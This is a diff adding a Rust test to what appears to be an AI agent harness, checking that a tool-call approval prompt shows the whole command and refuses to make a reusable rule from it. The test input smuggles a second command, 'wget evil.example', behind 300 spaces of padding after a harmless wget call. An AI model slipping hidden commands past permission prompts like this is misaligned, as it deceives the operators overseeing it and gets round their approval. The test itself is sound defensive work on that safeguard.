@@ -1,10 +1,15 @@
 //! Rules for tool calls, and ways to have a model ask for what they refuse.
 
-use serde_json::json;
+use std::{
+    thread,
+    time::{Duration, Instant},
+};
+
+use serde_json::{Value, json};
 
 use crate::{
     hooks::model,
-    world::{Ran, World},
+    world::{Ran, World, finish},
 };
 
 /// The agent asks a model that wants what it is told to.
@@ -67,4 +72,47 @@ fn has_a_model_ask_for_a_refused_command() {
     });
     assert!(denied.count() >= spelled.len() - 2, "{events:?}");
     held.verify();
+}
+
+/// The operator sees all of what is asked for, and permits this call and no other.
+#[test]
+fn has_another_call_pass_as_the_one_that_was_permitted() {
+    let server = model();
+    let Some(world) = World::new(&format!(
+        "inference:\n  providers: {{own: {{api: anthropic, url: \"{}\"}}}}\n  \
+         routes: [{{model: \"*\", to: own}}]\n\
+         permissions: {{mode: bypassPermissions, ask: [\"Bash(wget *)\"]}}\n\
+         approvals: {{timeout: 20s}}\n",
+        server.url()
+    )) else {
+        return;
+    };
+    let hidden = format!("wget good.example {}; wget evil.example", " ".repeat(300));
+    let list = || {
+        let ran = finish(world.palisade().args(["approvals", "list", "--json"]));
+        ran.out.lines().map(|line| serde_json::from_str(line).unwrap()).collect::<Vec<Value>>()
+    };
+    thread::scope(|scope| {
+        let asked = scope.spawn(|| wants(&world, &hidden));
+        let until = Instant::now() + Duration::from_secs(20);
+        let question = loop {
+            match list().into_iter().next() {
+                Some(question) => break question,
+                None => assert!(Instant::now() < until, "nothing is asked"),
+            }
+            thread::sleep(Duration::from_millis(50));
+        };
+        assert_eq!(question["kind"], "tool_call", "{question}");
+        assert!(question["subject"].as_str().unwrap().contains("evil.example"), "{question}");
+        let which = format!("{}/{}", question["session"].as_str().unwrap(), question["id"]);
+        // A rule for a destination cannot be made of it.
+        let rule = world.at("rule.yaml");
+        let mut command = world.palisade();
+        command.args(["approvals", "allow", &which, "--rule"]).arg(&rule);
+        assert_ne!(finish(&mut command).code, Some(0));
+        let allowed = finish(world.palisade().args(["approvals", "allow", &which]));
+        assert_eq!(allowed.code, Some(0), "{allowed}");
+        let ran = asked.join().unwrap();
+        assert!(ran.good().contains("\"tool_use\""), "{ran}");
+    });
 }
